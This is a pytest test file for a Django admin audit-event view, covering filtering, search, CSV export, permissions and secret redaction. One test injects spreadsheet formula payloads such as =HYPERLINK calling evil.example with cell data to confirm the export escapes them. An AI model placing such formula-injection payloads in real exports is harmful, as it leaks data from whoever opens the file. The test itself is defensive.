"""The audit trail in the admin: read only, filtered, taken away as CSV (decision 18; security rows 28, 45)."""

from __future__ import annotations

import csv
import json
from datetime import datetime, timedelta

import pytest
from django.contrib import admin
from django.test import Client
from django.utils import timezone

from portal import clock, tokens
from portal.admin import event as event_admin
from portal.admin import paging
from portal.models import Actor, PortalEvent, PortalSession
from tests.factories import PortalConfigFactory, issue_root_key, mint, sign_in

from .rows import EVENTS, SESSIONS, address, assert_strict, cells, staff, text

pytestmark = pytest.mark.django_db

EXPORT = f"{EVENTS}export/"


def export(client, **query) -> list[dict[str, str]]:
    """Return the rows of the CSV file."""
    answer = client.get(EXPORT, query)
    assert answer.status_code == 200
    assert answer.streaming
    return list(csv.DictReader(answer.getvalue().decode().splitlines(keepends=True)))


def record(kind="session.created", **values):
    actor = Actor(values.pop("actor_kind", "system"), values.pop("actor_id", ""), values.pop("address", None))
    return PortalEvent.record(kind, actor, using="default", **values)


class ByName(admin.SimpleListFilter):
    title = parameter_name = "word"

    def lookups(self, request, model_admin):
        return [("made", "Created"), ("replayed", "Replayed")]

    def queryset(self, request, queryset):
        return queryset.filter(kind__endswith=self.value()) if self.value() else queryset


def test_a_hosts_subclass_may_have_djangos_filters(operator, config, root_key, monkeypatch):
    sign_in(config, minted_by=root_key.row.pk)
    mine = ("kind", ("address", admin.EmptyFieldListFilter), ByName, *event_admin.PortalEventAdmin.list_filter)
    monkeypatch.setattr(admin.site.get_model_admin(PortalEvent), "get_list_filter", lambda request: mine)
    monkeypatch.setattr(admin.site.get_model_admin(PortalEvent), "date_hierarchy", "created_at")
    year = clock.now().year
    assert cells(operator.get(EVENTS, {"created_at__year": year, "kind": "session.created"}), "kind") == [
        "Session created"
    ]
    assert cells(operator.get(EVENTS, {"created_at__year": year - 1}), "kind") == []
    assert cells(operator.get(EVENTS, {"kind__exact": "session.created"}), "kind") == ["Session created"]
    assert cells(operator.get(EVENTS, {"address__isempty": "0"}), "kind") == []
    assert cells(operator.get(EVENTS, {"word": "exchanged"}), "kind") == ["Session exchanged"]
    assert cells(operator.get(EVENTS, {"portal": config.public_id, "word": "created"}), "kind") != []
    assert operator.get(EVENTS, {"external_id__startswith": "user"}).status_code == 400
    assert operator.get(EVENTS, {"kinds": "session.created"}).status_code == 400
    monkeypatch.setattr(admin.site.get_model_admin(PortalSession), "list_filter", ("minted_by",))
    key = root_key.row.pk
    assert len(cells(operator.get(SESSIONS, {"minted_by__id__exact": key}), "external_id")) == 1
    assert cells(operator.get(SESSIONS, {"minted_by__id__exact": key + 1}), "external_id") == []
    assert operator.get(SESSIONS, {"minted_by__key_hash__startswith": "a"}).status_code == 400


def test_the_list_shows_the_newest_first(operator, config, root_key):
    session = sign_in(config).row
    session.revoke(Actor("operator", "ada", "192.0.2.7"), reason="revoked_by_operator")
    page = operator.get(EVENTS)
    assert cells(page, "kind") == [
        "Sessions revoked",
        "Session exchanged",
        "Session created",
        "Root key created",
        "Portal created",
    ]
    assert cells(page, "actor") == ["Operator ada", "End user user_123", "System", "System", "System"]
    assert cells(page, "portal") == ["my-portal"] * 3 + ["-", "my-portal"]
    assert cells(page, "session_id")[0] == session.public_id
    assert cells(page, "external_id")[0] == "user_123"
    assert cells(page, "address")[0] == "192.0.2.7"
    assert_strict(page)
    detail = operator.get(f"{EVENTS}{PortalEvent.objects.first().pk}/change/")
    assert '"reason": "revoked_by_operator"' in text(detail)
    assert_strict(detail)


def test_filters_by_kind_actor_and_portal(operator, config):
    other = PortalConfigFactory()
    sign_in(config, "here")
    mint(other, "there")
    assert cells(operator.get(EVENTS, {"kind": "session.created"}), "external_id") == ["there", "here"]
    assert cells(operator.get(EVENTS, {"actor": "end_user"}), "external_id") == ["here"]
    assert cells(operator.get(EVENTS, {"portal": other.public_id}), "kind") == ["Session created", "Portal created"]
    both = {"portal": config.public_id, "kind": "session.exchanged"}
    assert cells(operator.get(EVENTS, both), "external_id") == ["here"]
    assert cells(operator.get(EVENTS, {**both, "actor": "operator"}), "external_id") == []
    page = operator.get(EVENTS)
    for link, expected in (("Session exchanged", ["here"]), ("End user", ["here"]), (other.slug, ["there", "-"])):
        assert cells(operator.get(EVENTS + address(page, link)), "external_id") == expected


def test_filter_by_date(operator, config):
    long_ago = clock.now() - timedelta(days=10)
    with clock.using(lambda: long_ago):
        mint(config, "old")
    mint(config, "new")
    day = timezone.localtime(long_ago).date()
    assert cells(operator.get(EVENTS, {"from": day, "to": day}), "external_id") == ["old"]
    assert "new" in cells(operator.get(EVENTS, {"from": day + timedelta(days=1)}), "external_id")
    assert [row["external_id"] for row in export(operator, **{"from": day, "to": day})] == ["old"]


def test_search_by_user_session_and_portal(operator, config):
    other = PortalConfigFactory()
    session = sign_in(config, "ada lovelace").row
    mint(other, "ada")
    assert cells(operator.get(EVENTS, {"q": "ada lovelace"}), "session_id") == [session.public_id] * 2
    assert cells(operator.get(EVENTS, {"q": session.public_id}), "external_id") == ["ada lovelace"] * 2
    assert cells(operator.get(EVENTS, {"q": "lovelace"}), "kind") == []
    # A portal that is gone cannot be chosen from a list, but its trail is still there.
    other.delete()
    assert cells(operator.get(EVENTS, {"q": other.public_id}), "kind") == [
        "Portal deleted",
        "Session created",
        "Portal created",
    ]
    page = operator.get(EVENTS)
    assert other.slug not in page.content.decode()
    assert cells(page, "portal")[0] == other.public_id
    assert cells(operator.get(EVENTS, {"q": " "}), "kind") == cells(operator.get(EVENTS), "kind")


def test_the_export_holds_what_the_list_shows_and_its_other_pages(operator, config, monkeypatch):
    monkeypatch.setattr(event_admin, "_EXPORT_PAGE", 7)
    monkeypatch.setattr(paging, "STEP", 5)
    monkeypatch.setattr(paging, "STEPS", 2)
    for number in range(60):
        sign_in(config, f"user_{number}")
    assert len(cells(operator.get(EVENTS), "kind")) == 50
    rows = export(operator)
    assert [row["external_id"] for row in rows] == [e.external_id for e in PortalEvent.objects.order_by("-pk")]
    assert len(rows) == 121
    # A condition that no index serves is followed through the whole table, step by step.
    exchanged = export(operator, kind="session.exchanged")
    assert [row["external_id"] for row in exchanged] == [f"user_{number}" for number in range(59, -1, -1)]
    assert [row["kind"] for row in export(operator, kind="portal.created")] == ["portal.created"]
    assert export(operator, kind="portal.deleted") == []
    assert [row["kind"] for row in export(operator, q="user_7")] == ["session.exchanged", "session.created"]
    # The button carries the filter, and not the page.
    page = operator.get(EVENTS, {"kind": "session.exchanged", "p": PortalEvent.objects.first().pk})
    assert address(page, "Export as CSV") == f"{EXPORT}?kind=session.exchanged"


def test_a_row_of_the_export(operator, config):
    session = mint(config, "usér, “one”").row
    session.revoke(Actor("operator", "ada", "2001:db8::1"), reason="revoked_by_operator")
    answer = operator.get(EXPORT)
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert (
        answer["Content-Disposition"] == f'attachment; filename="portal-events-{timezone.localdate(clock.now())}.csv"'
    )
    assert "no-store" in answer["Cache-Control"]
    row = export(operator)[0]
    event = PortalEvent.objects.first()
    assert list(row) == [
        *("kind", "actor_kind", "actor_id", "address", "portal_id", "session_id", "external_id"),
        *("detail", "created_at"),
    ]
    assert datetime.fromisoformat(row.pop("created_at")) == event.created_at
    assert json.loads(row.pop("detail")) == event.detail
    assert row == {
        "kind": "session.revoked",
        "actor_kind": "operator",
        "actor_id": "ada",
        "address": "2001:db8::1",
        "portal_id": config.public_id,
        "session_id": session.public_id,
        "external_id": "usér, “one”",
    }


# Many programs trim a cell before they look at it.
LATER = [" =", "  -", "\xa0=", "\ufeff+", "\u3000@", "\u200b=", "\x0b＝"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", *LATER])
def test_a_spreadsheet_takes_no_cell_for_a_formula(operator, start):
    formula = f'{start}HYPERLINK("https://evil.example/?"&A1)'
    record(external_id=formula, actor_id=formula)
    record(external_id=f"a{formula}")
    answer = operator.get(EXPORT).getvalue().decode()
    quoted = formula.replace('"', '""')
    assert answer.count(f'"\'{quoted}"') == 2
    # Only what begins with it: the text itself stays as it is.
    assert f'"a{quoted}"' in answer
    assert f',"{quoted}"' not in answer


@pytest.mark.parametrize("separator", [";", "\t", "\n"])
def test_nor_the_middle_of_one_where_a_cell_begins_for_it(operator, separator):
    record(external_id=f"a{separator}=HYPERLINK(1)")
    assert f"a{separator}'=HYPERLINK(1)" in operator.get(EXPORT).getvalue().decode()


def test_what_is_no_filter_leads_back_to_the_list_and_no_other_column_can_be_asked_for(operator):
    for path in (EVENTS, EXPORT):
        answer = operator.get(path, {"from": "yesterday"})
        assert (answer.status_code, answer["Location"]) == (302, f"{EVENTS}?e=1")
        assert operator.get(path, {"detail__reason": "x"}).status_code == 400
        assert operator.get(path, {"actor_id": "ada"}).status_code == 400


def test_row_45_nobody_adds_edits_or_deletes_events(operator, config):
    event = PortalEvent.objects.get()
    before = PortalEvent.objects.values().get()
    assert operator.get(f"{EVENTS}add/").status_code == 403
    assert operator.post(f"{EVENTS}add/", {"kind": "x"}).status_code == 403
    assert operator.post(f"{EVENTS}{event.pk}/change/", {"kind": "x"}).status_code == 403
    assert operator.post(f"{EVENTS}{event.pk}/delete/", {"post": "yes"}).status_code == 403
    operator.post(EVENTS, {"action": "delete_selected", "post": "yes", "_selected_action": [event.pk]})
    assert PortalEvent.objects.values().get() == before


def test_only_whoever_may_view_events_sees_and_exports_them(config):
    event = PortalEvent.objects.get()
    paths = (EVENTS, EXPORT, f"{EVENTS}{event.pk}/change/")
    stranger = staff("view_portalsession", "view_rootkey")
    for path in paths:
        assert stranger.get(path).status_code == 403
        assert Client().get(path)["Location"].startswith("/admin/login/")


def test_view_permission_is_enough(config):
    viewer = staff("view_portalevent")
    page = viewer.get(EVENTS)
    assert page.status_code == 200
    assert 'name="action"' not in page.content.decode()
    assert len(export(viewer)) == 1


def test_row_28_no_secret_is_in_the_trail(operator, config):
    _, key = issue_root_key()
    session, code = mint(config)
    token = type(session).objects.exchange(code).secret
    written = operator.get(EVENTS).content.decode() + operator.get(EXPORT).getvalue().decode()
    for value in (key, code, token, tokens.digest(code).hex(), tokens.digest(token).hex()):
        assert value not in written
